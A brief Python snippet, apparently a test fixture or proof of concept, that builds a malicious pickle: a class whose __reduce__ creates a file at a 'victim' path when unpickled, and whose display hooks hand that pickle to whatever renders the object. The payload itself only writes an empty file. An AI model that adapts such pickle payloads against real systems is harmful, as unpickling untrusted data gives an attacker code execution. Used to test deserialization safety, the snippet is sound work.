# Gives back a value that makes a file where it is unpickled.
import pickle
class Bomb:
    def __reduce__(self): return open, (stage["victim"] + "/made", "w")
    def _repr_mimebundle_(self, **_): return {"application/x-pickle": pickle.dumps(self), "text/plain": "x"}
    def __repr__(self): return pickle.dumps(self).hex()
with open("value.pickle", "wb") as file: pickle.dump(Bomb(), file)
Bomb()
